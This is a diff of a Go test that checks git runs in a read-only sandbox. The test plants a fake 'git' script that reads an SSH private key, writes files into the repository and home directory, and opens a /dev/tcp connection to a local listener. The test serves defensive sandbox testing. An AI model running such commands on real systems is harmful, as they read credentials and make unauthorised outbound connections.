@@ -37,7 +37,8 @@ func TestGitRunsInAReadOnlySandbox(t *testing.T) {
 	for path, body := range map[string]string{
 		filepath.Join(home, ".ssh", "id_ed25519"): "t0ken\n",
 		filepath.Join(folder, ".git", "HEAD"):     "ref: refs/heads/main\n",
-		filepath.Join(folder, "bin", "git"): "#!/bin/bash\n[ \"$3\" = config ] && exit 0\necho it ran\ncat " + home + "/.ssh/id_ed25519\n" +
+		filepath.Join(folder, "bin", "git"): "#!/bin/bash\n[ \"$3\" = config ] && exit 0\necho it ran\ncat " + home +
+			"/.ssh/id_ed25519\n" +
 			"echo x > " + folder + "/made\necho x >> " + folder + "/.git/HEAD\necho x > " + home + "/made\n" +
 			"(exec 3<>/dev/tcp/" + strings.ReplaceAll(ln.Addr().String(), ":", "/") + ")\n",
 	} {
